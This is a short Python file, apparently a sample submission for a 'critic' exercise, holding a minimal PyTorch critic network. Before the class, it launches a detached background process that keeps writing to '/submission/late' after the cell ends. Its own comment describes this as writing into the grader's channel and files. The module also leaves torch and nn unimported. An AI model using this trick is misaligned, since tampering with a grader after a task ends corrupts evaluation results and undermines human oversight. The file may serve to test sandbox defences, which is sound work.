# A process left running that writes into the grader's channel and files after the cell has ended.
# exercise: critic
import subprocess
import sys

code = "import time; [time.sleep(0.1) or open('/submission/late', 'w') for _ in range(999)]"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)


class Critic(nn.Module):
    def __init__(self, obs_dim, action_dim):
        super().__init__()
        self.layer = nn.Linear(obs_dim + action_dim, 1)

    def forward(self, obs, action):
        return self.layer(torch.cat([obs, action], dim=-1)).squeeze(-1)
